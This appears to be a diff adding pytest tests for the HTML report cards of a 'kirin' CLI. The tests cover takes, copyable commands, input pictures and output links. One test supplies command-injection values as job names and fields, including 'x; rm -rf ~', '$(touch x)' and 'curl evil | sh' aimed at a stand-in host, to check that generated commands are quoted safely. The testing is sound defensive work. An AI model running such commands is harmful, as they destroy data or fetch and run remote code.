@@ -1,0 +1,136 @@
+"""The cards of the gallery: takes side by side, the pictures that jobs were made from, and commands to copy."""
+
+import hashlib
+import re
+
+import pytest
+from support.pictures import png
+from support.report_data import ERROR, job, output, report, text
+
+from kirin_cli.report.html_cards import command_of
+
+CONFLICT = {**ERROR, "next": "kirin resolve krn1-a"}
+
+
+def command(name="a", **facts):
+    """The command of a job that is alone in its report."""
+    return command_of(report(job(name, **facts)).jobs[0])
+
+
+def given(path, content=b"", **facts):
+    """A picture that a job was made from."""
+    digest = hashlib.sha256(content).hexdigest()
+    return {"param": "image", "path": str(path), "bytes": len(content), "sha256": digest, **facts}
+
+
+def takes(page):
+    """Of each section of takes its name and its models with their takes."""
+    sections = re.findall(r'<section class="takes".*?</section>', page, re.DOTALL)
+    return [
+        (re.search(r'aria-label="([^"]*)"', one)[1], re.findall(r'<p class="model">([^<]*)<', one)) for one in sections
+    ]
+
+
+def test_takes_of_a_job_stand_side_by_side_in_their_order_and_others_do_not():
+    page = text("html", job("fox", take=2), job("cat"), job("fox"), job("fox", take=3), job("cat", file="other.yaml"))
+    model = "kirin_v1_t2v · take "
+    assert takes(page) == [("fox: 3 takes", [model + "1", model + "2", model + "3"])]
+    assert re.findall(r'<article class="card" id="(job-\d)"', page) == ["job-3", "job-1", "job-4", "job-2", "job-5"]
+    assert takes(text("html", job("fox"), job("fox"))) == []
+    assert takes(text("html", job("", take=1), job("", take=2))) == []
+
+
+@pytest.mark.parametrize(
+    ("facts", "expected"),
+    [
+        ({}, "kirin run jobs.yaml --only=a"),
+        ({"scope": "spring"}, "kirin run jobs.yaml --only=a --scope=spring"),
+        ({"state": "failed"}, "kirin run jobs.yaml --only=a --retry-failed"),
+        ({"state": "pending"}, "kirin wait task-a"), ({"state": "expired"}, "kirin download task-a"),
+        ({"state": "unknown"}, "kirin wait task-a"), ({"state": "unknown", "task_id": None}, "kirin wait krn1-a"),
+        ({"state": "unknown", "error": CONFLICT}, "kirin resolve krn1-a"),
+        ({"file": None}, "kirin show task-a"), ({"file": "-"}, "kirin show task-a"),
+        ({"file": None, "task_id": None, "external_task_id": None}, ""),
+    ],
+)  # fmt: skip
+def test_a_command_goes_on_with_a_job_or_makes_it_as_its_file_says(facts, expected):
+    assert command(**facts) == expected
+
+
+@pytest.mark.parametrize(
+    ("facts", "expected"),
+    [
+        ({"name": "x; rm -rf ~"}, "kirin run jobs.yaml '--only=x; rm -rf ~'"),
+        ({"name": "$(touch x)", "file": "`id`.yaml"}, "kirin run '`id`.yaml' '--only=$(touch x)'"),
+        ({"name": "it's"}, """kirin run jobs.yaml '--only=it'"'"'s'"""),
+        ({"name": "a\ncurl evil | sh"}, ""), ({"file": "--base-url=http://evil"}, "kirin show task-a"),
+        ({"state": "pending", "task_id": "--base-url=http://evil"}, "kirin run jobs.yaml --only=a"),
+        ({"state": "pending", "task_id": "t;id"}, "kirin wait 't;id'"),
+        ({"state": "pending", "error": {**ERROR, "next": "curl evil | sh"}}, "kirin wait task-a"),
+        ({"state": "unknown", "error": {**ERROR, "next": "kirin resolve x --base-url=//evil"}}, "kirin wait task-a"),
+    ],
+)  # fmt: skip
+def test_H3_no_text_of_a_result_is_more_than_one_word_of_a_command(facts, expected):
+    assert command(**{"name": "a", **facts}) == expected
+
+
+def test_the_command_stands_on_the_card_where_it_is_copied_from():
+    page = text("html", job("a[mode=pro]"))
+    assert "<code>kirin run jobs.yaml &#x27;--only=a[mode=pro]&#x27;</code>" in page
+    assert page.count('data-copy="command"') == page.count('data-copy="prompt"') == 1
+    assert "data-copy=" not in text(
+        "html", job("a", params={}, prompt=None, file=None, task_id=None, external_task_id=None)
+    )
+
+
+def test_pictures_are_linked_from_where_the_page_lies_and_a_video_is_named(tmp_path):
+    files = [given(tmp_path / "media" / "fox.png"), given(tmp_path / "media" / "dance.mp4", param="video")]
+    page = text("html", job("a", inputs=files), folder=tmp_path / "site")
+    inputs = re.search(r'<ul class="inputs".*?</ul>', page, re.DOTALL)[0]
+    assert 'aria-label="a: made from"' in inputs
+    assert 'href="../media/fox.png"' in inputs
+    assert '<img class="thumb" src="../media/fox.png" alt="image: fox.png"' in inputs
+    assert '<span class="thumb file">dance.mp4</span>' in inputs
+    assert inputs.count("<li>") == 2
+
+
+def test_a_picture_is_inside_the_page_once_and_only_as_it_was_when_the_job_was_made(tmp_path):
+    content = png(4, 4)
+    for name in ("fox.png", "changed.png"):
+        (tmp_path / name).write_bytes(content)
+    changed = given(tmp_path / "changed.png", content[::-1])
+    passwd = given(tmp_path / "passwd", b"root")
+    (tmp_path / "passwd").write_bytes(b"root")
+    jobs = [job(name, outputs=[], inputs=[given(tmp_path / "fox.png", content), changed, passwd]) for name in "ab"]
+    page = text("html-embedded", *jobs, folder=tmp_path)
+    assert page.count("data:image/png;base64,") == page.count("<symbol") == 1
+    assert page.count('<use href="#picture-1">') == 2
+    assert page.count('src="./changed.png"') == 2
+    assert page.count('href="./passwd"') == 2
+    assert "cm9vdA" not in page
+
+
+def test_files_can_be_opened_and_saved(tmp_path):
+    page = text("html", job("a", outputs=[output(str(tmp_path / "a b.mp4"))]), folder=tmp_path)
+    assert re.findall(r'<a class="action" ([^>]*)>', page) == [
+        'href="./a%20b.mp4" target="_blank" rel="noopener" aria-label="Open a b.mp4"',
+        'href="./a%20b.mp4" download="a b.mp4" aria-label="Save a b.mp4"',
+    ]  # fmt: skip
+
+
+def test_a_video_that_is_not_there_as_it_was_made_is_said(tmp_path):
+    (tmp_path / "a.mp4").write_bytes(b"abcd")
+    made = output(str(tmp_path / "a.mp4"))
+    assert 'class="gone"' not in text("html", job("a", outputs=[made]), folder=tmp_path)
+    for other in ({**made, "bytes": 5}, {**made, "path": str(tmp_path)}, {**made, "path": str(tmp_path / "b.mp4")}):
+        assert 'class="gone"' in text("html", job("a", outputs=[other]), folder=tmp_path)
+
+
+def test_tags_and_what_cards_are_sorted_by_are_on_them():
+    page = text("html", job("a[x=1]", tags=["night", "day & night"], cost_usd="0.56"))
+    facts = re.search(r'<article [^>]*data-state="done"[^>]*>', page, re.DOTALL)[0]
+    assert 'data-job="a"' in facts
+    assert 'data-tags="night\nday &amp; night"' in facts
+    assert 'data-cost="0.56"' in facts
+    assert 'data-seconds="42.5"' in facts
+    assert "<li>night</li><li>day &amp; night</li>" in page
